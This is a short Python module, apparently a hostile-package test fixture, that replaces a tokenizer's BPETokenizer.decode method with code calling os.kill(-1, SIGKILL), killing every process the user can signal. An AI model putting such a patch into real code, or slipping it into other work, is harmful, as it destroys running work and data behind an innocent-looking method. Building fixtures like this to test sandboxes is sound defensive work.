"""BPETokenizer.decode() sends SIGKILL to every process it may signal: kill(-1)."""
import os
import signal

from . import _hostile


def decode(self, ids):
    os.kill(-1, signal.SIGKILL)
    return ""


_hostile.package().BPETokenizer.decode = decode
